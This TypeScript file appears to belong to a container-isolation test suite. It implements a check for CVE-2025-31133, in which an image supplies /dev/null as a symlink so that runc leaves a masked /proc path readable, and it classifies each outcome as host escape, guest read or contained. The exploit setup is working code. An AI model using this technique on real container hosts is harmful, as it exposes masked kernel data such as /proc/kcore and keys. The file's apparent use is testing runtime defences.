import { contained, escaped, reachedGuest, type Attack } from '../../attack.ts'
import { hostBootId } from '../../containerd-host.ts'

const masked = '/proc/sys/kernel/random/boot_id'

/**
 * runc covered a masked file with the container's own /dev/null, whatever that was, and let it be where there was none. The
 * published exploits replace it in a race; an image or volume as /dev, with the link there from the start, needs none.
 */
export const attack: Attack = {
  id: 'CVE-2025-31133',
  title: 'a masked path is uncovered by a /dev/null of the image\'s that is a link',
  family: 'container',
  leak: 'what is masked: /proc/kcore, keys, the host\'s firmware tables',
  bound: 'container',
  control: { weak: 'runc without the mask, which is what the exploits come to (1.1.5 has the bug, but only who wins a race sees it)' },
  async run(site) {
    const seen: string[] = []
    for (const target of ['/attack/none', '/attack/public']) {
      const { stdout, stderr, refusal } = await site.attempt({
        args: ['cat', masked],
        rootfs: (layer) => {
          site.host.shell(`mkdir -p ${layer}/attack ${layer}/dev; echo public >${layer}/attack/public; ln -s ${target} ${layer}/dev/null`)
        },
        spec: (spec) => {
          spec.mounts = spec.mounts.filter(({ destination }) => !destination.startsWith('/dev'))
          spec.linux.maskedPaths = site.weak ? [] : [masked]
        },
      })
      if (stdout.includes(hostBootId())) return escaped(`${masked} of the host's kernel was read, with /dev/null → ${target}`)
      if (/^[0-9a-f-]{36}$/m.test(stdout)) return reachedGuest(`${masked} of the guest's kernel was read, with /dev/null → ${target}`)
      seen.push(refusal ?? `${target}: «${stdout}» ${stderr}`)
    }
    return contained(`${masked} stays covered: ${seen.join(' / ')}`)
  },
}
